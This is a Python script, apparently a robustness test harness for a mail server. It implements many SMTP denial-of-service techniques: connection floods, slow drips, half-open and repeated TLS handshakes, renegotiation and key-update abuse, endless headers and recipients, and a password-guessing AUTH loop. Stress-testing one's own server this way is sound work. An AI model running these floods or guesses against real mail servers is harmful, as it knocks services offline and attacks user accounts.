#!/usr/bin/env python3
"""Clients that do harm. Each kind does one thing, over and over, from one address, with what a server lets it have; the kinds that
begin with many- from a thousand.

flood.py list                                          the kinds, one a line
flood.py run KIND HOST MX SUBMISSION SOURCE SECONDS    MX and SUBMISSION are ports; one JSON line at the end says what was done
flood.py listen HOST PORT PORT                         closes each connection at once: what the harm costs where the server costs nothing
"""
import base64, ctypes, json, os, random, socket, ssl, struct, sys, threading, time

KINDS = {}
PROCESSES = 2
SMALL = 2048


MANY = [f'127.0.{67 + n // 250}.{1 + n % 250}' for n in range(1000)]


def kind(name, threads=8, many=False):
    def add(attack):
        KINDS[name] = (attack, threads, many)
        return attack
    return add


class Over(Exception):
    pass


class Client:
    """One connection, and the count of what all of this process have done."""
    octets = connections = refused = 0
    end = 0

    def __init__(self, port, deaf=False):
        self.sock = socket.socket()
        if deaf:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SMALL)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.settimeout(2)
        self.sock.bind((random.choice(MANY) if MANY else SOURCE, 0))
        self.sock.connect((HOST, port))
        Client.connections += 1

    def send(self, octets):
        if time.monotonic() > Client.end:
            raise Over
        octets = octets.encode() if isinstance(octets, str) else octets
        self.sock.sendall(octets)
        Client.octets += len(octets)

    def reply(self):
        text = b''
        while not text.endswith(b'\n') or text.splitlines()[-1][3:4] == b'-':
            piece = self.sock.recv(65536)
            if not piece:
                raise OSError('closed')
            text += piece
        if text.startswith(b'421'):
            Client.refused += 1
            raise OSError('421')
        return text

    def greet(self):
        self.reply()
        self.ask('EHLO flood.test\r\n')
        return self

    def ask(self, text):
        self.send(text)
        return self.reply()

    def begin(self, last='DATA'):
        self.ask('MAIL FROM:<flood@flood.test>\r\n')
        self.ask('RCPT TO:<box@inside.test>\r\n')
        if last:
            self.ask(last + '\r\n')
        return self

    def starttls(self, version=None):
        self.ask('STARTTLS\r\n')
        self.sock = context(version).wrap_socket(self.sock)
        self.ask('EHLO flood.test\r\n')
        return self

    def drip(self, octets):
        """An octet a second."""
        for octet in octets:
            self.send(bytes([octet]))
            time.sleep(min(1, max(0, Client.end - time.monotonic())))

    def hold(self):
        """Says nothing more, and reads nothing, until the server has enough."""
        while time.monotonic() < Client.end:
            time.sleep(0.2)
            try:
                if self.sock.recv(1, socket.MSG_DONTWAIT | socket.MSG_PEEK) == b'':
                    return
            except BlockingIOError:
                pass

    def pour(self, octets):
        """Sends the same again and again, and reads nothing; a server that stops reading is waited for."""
        self.sock.settimeout(None)
        while True:
            self.send(octets)

    def close(self):
        self.sock.close()


def context(version=None):
    c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
    if version:
        c.minimum_version = c.maximum_version = version
    return c


def hello():
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = context().wrap_bio(into, out, server_hostname='mx.gate.test')
    try:
        session.do_handshake()
    except ssl.SSLWantReadError:
        return out.read()


@kind('connect')                                # and leave at once
def _():
    Client(MX).close()


@kind('connect-reset')
def _():
    c = Client(MX)
    c.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))
    return c


@kind('connect-hold', threads=200)              # and say nothing
def _():
    Client(MX).hold()


@kind('many-hold', threads=600, many=True)      # more than limits.sessions
def _():
    Client(MX).hold()


@kind('many-drip', threads=600, many=True)
def _():
    Client(MX).greet().begin().drip(b'Subject: slow\r\n\r\n' + b'a line\r\n' * 1000)


@kind('many-connect', many=True)
def _():
    Client(MX).close()


@kind('many-tls-half', threads=600, many=True)
def _():
    c = Client(MX).greet()
    c.ask('STARTTLS\r\n')
    c.send(hello())
    c.hold()


@kind('drip-greeting', threads=50)              # before the greeting is read
def _():
    Client(MX).drip(b'EHLO flood.test')


@kind('drip-command', threads=50)
def _():
    Client(MX).greet().drip(b'MAIL FROM:<flood@flood.test> BODY=8BITMIME SIZE=100000')


@kind('drip-handshake', threads=50)
def _():
    c = Client(MX).greet()
    c.ask('STARTTLS\r\n')
    c.drip(hello())


@kind('drip-auth', threads=50)
def _():
    c = Client(SUBMISSION).greet().starttls()
    c.ask('AUTH LOGIN\r\n')
    c.drip(b'YWxpY2VAaW5zaWRlLnRlc3Q' * 100)


@kind('drip-data', threads=50)
def _():
    Client(MX).greet().begin().drip(b'Subject: slow\r\n\r\n' + b'a line\r\n' * 1000)


@kind('drip-bdat', threads=50)
def _():
    c = Client(MX).greet().begin('')
    c.send('BDAT 100000 LAST\r\n')
    c.drip(b'Subject: slow\r\n\r\n' + b'a line\r\n' * 1000)


@kind('deaf', threads=50)                       # replies in plenty, and nobody reads them
def _():
    c = Client(MX, deaf=True).greet().begin('')
    c.pour('BDAT 0\r\n' * 1000)


@kind('deaf-rcpt', threads=50)
def _():
    c = Client(MX, deaf=True).greet()
    c.ask('MAIL FROM:<flood@flood.test>\r\n')
    c.pour(''.join('RCPT TO:<box%d@inside.test>\r\n' % n for n in range(2000)))


@kind('deaf-tls', threads=50)
def _():
    c = Client(MX, deaf=True).greet().starttls().begin('')
    c.pour('BDAT 0\r\n' * 1000)


@kind('tls-half', threads=50)                   # ClientHello, and nothing more
def _():
    c = Client(MX).greet()
    c.ask('STARTTLS\r\n')
    c.send(hello())
    c.hold()


@kind('tls-again')                              # handshake after handshake
def _():
    Client(MX).greet().starttls().close()


@kind('tls-junk')
def _():
    c = Client(MX).greet()
    c.ask('STARTTLS\r\n')
    c.send(b'\x16\x03\x01\x40\x00' + os.urandom(16384))
    c.hold()


def native(version, act):
    """What only OpenSSL itself can do, in one thread for each connection."""
    lib = ctypes.CDLL('libssl.so.3')
    lib.TLS_client_method.restype = lib.SSL_CTX_new.restype = lib.SSL_new.restype = ctypes.c_void_p
    c = Client(MX).greet()
    c.ask('STARTTLS\r\n')
    c.sock.settimeout(None)
    made = ctypes.c_void_p(lib.SSL_CTX_new(ctypes.c_void_p(lib.TLS_client_method())))
    lib.SSL_CTX_ctrl(made, 124, ctypes.c_long(version), None)   # SSL_CTX_set_max_proto_version
    session = ctypes.c_void_p(lib.SSL_new(made))
    lib.SSL_set_fd(session, c.sock.fileno())
    try:
        if lib.SSL_connect(session) == 1:
            while time.monotonic() < Client.end and act(lib, session) > 0:
                Client.octets += 30
    finally:
        lib.SSL_free(session)
        lib.SSL_CTX_free(made)
        c.close()


@kind('tls-keyupdate')                          # each asks for one of the server's (RFC 8446 section 4.6.3), and none is read
def _():
    native(0x304, lambda lib, session: min(lib.SSL_key_update(session, 1), lib.SSL_do_handshake(session)))


@kind('tls-renegotiate')
def _():
    native(0x303, lambda lib, session: min(lib.SSL_renegotiate(session), lib.SSL_do_handshake(session)))


@kind('header')                                 # without end
def _():
    Client(MX).greet().begin().pour(''.join('X-%d: more of it\r\n' % n for n in range(4000)))


@kind('header-received')
def _():
    Client(MX).greet().begin().pour('Received: from a by b; Mon, 23 Nov 2026 00:00:00 +0000\r\n' * 1000)


@kind('rcpt')                                   # a million, each answered
def _():
    c = Client(MX).greet()
    c.ask('MAIL FROM:<flood@flood.test>\r\n')
    threading.Thread(target=swallow, args=(c,), daemon=True).start()
    c.pour(''.join('RCPT TO:<box%d@inside.test>\r\n' % n for n in range(20000)))


@kind('rcpt-same')
def _():
    c = Client(MX).greet()
    c.ask('MAIL FROM:<flood@flood.test>\r\n')
    threading.Thread(target=swallow, args=(c,), daemon=True).start()
    c.pour('RCPT TO:<box@inside.test>\r\n' * 2000)


def swallow(c):
    try:
        while c.sock.recv(65536):
            pass
    except OSError:
        pass


@kind('junk')
def _():
    c = Client(MX).greet()
    c.send('NOOP\r\nRSET\r\nVRFY a\r\nHELP\r\n' * 100)
    c.hold()


@kind('unknown')
def _():
    c = Client(MX).greet()
    c.send('XYZZY a\r\n' * 100)
    c.hold()


@kind('bdat-nothing')                           # commands that are no error, without end
def _():
    c = Client(MX).greet().begin('')
    threading.Thread(target=swallow, args=(c,), daemon=True).start()
    c.pour('BDAT 0\r\n' * 1000)


@kind('line')                                   # a command without end
def _():
    Client(MX).greet().pour(b'A' * 65536)


@kind('content-line')
def _():
    Client(MX).greet().begin().pour(b'A' * 65536)


@kind('auth')                                   # guess after guess
def _():
    c = Client(SUBMISSION).greet().starttls()
    while True:
        c.sock.settimeout(60)
        c.ask('AUTH PLAIN %s\r\n' % base64.b64encode(b'\0alice@inside.test\0guess%d' % random.randrange(10**9)).decode())


@kind('random')                                 # octets as they come, where a message should be
def _():
    Client(MX).greet().begin().pour(os.urandom(65536))


@kind('text')                                   # a message without end
def _():
    Client(MX).greet().begin().pour(b'Subject: more\r\n\r\n' + b'%s\r\n' % base64.b64encode(os.urandom(54)) * 1000)


@kind('text-tls')
def _():
    Client(MX).greet().starttls().begin().pour(b'Subject: more\r\n\r\n' + b'%s\r\n' % base64.b64encode(os.urandom(54)) * 1000)


def work(attack):
    while time.monotonic() < Client.end:
        try:
            attack()
        except (OSError, Over, ValueError):
            time.sleep(0.001)


def leave_with(parent):
    while os.getppid() == parent:
        time.sleep(0.1)
    os._exit(1)


def listen(host, port):
    listener = socket.create_server((host, port), backlog=512)
    while True:
        accepted, _ = listener.accept()
        accepted.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))
        accepted.close()


def main():
    global HOST, MX, SUBMISSION, SOURCE
    if sys.argv[1] == 'list':
        print('\n'.join(KINDS))
        return
    if sys.argv[1] == 'listen':
        threading.Thread(target=listen, args=(sys.argv[2], int(sys.argv[4])), daemon=True).start()
        listen(sys.argv[2], int(sys.argv[3]))
    name, HOST, MX, SUBMISSION, SOURCE = sys.argv[2], sys.argv[3], int(sys.argv[4]), int(sys.argv[5]), sys.argv[6]
    # Whoever attacks brings a machine of its own: what it costs here must not be counted against the server.
    os.nice(19)
    attack, threads, many = KINDS[name]
    if not many:
        MANY.clear()
    Client.end = time.monotonic() + float(sys.argv[7])
    reader, writer = os.pipe()
    for _ in range(PROCESSES):
        if os.fork() == 0:
            threading.Thread(target=leave_with, args=(os.getppid(),), daemon=True).start()
            workers = [threading.Thread(target=work, args=(attack,), daemon=True) for _ in range(threads)]
            for worker in workers:
                worker.start()
            for worker in workers:
                worker.join(max(0.1, Client.end + 0.5 - time.monotonic()))
            os.write(writer, struct.pack('QQQ', Client.connections, Client.octets, Client.refused))
            os._exit(0)
    for _ in range(PROCESSES):
        os.wait()
    done = [struct.unpack('QQQ', os.read(reader, 24)) for _ in range(PROCESSES)]
    print(json.dumps(dict(zip(('connections', 'octets', 'refused'), map(sum, zip(*done))))))


main()
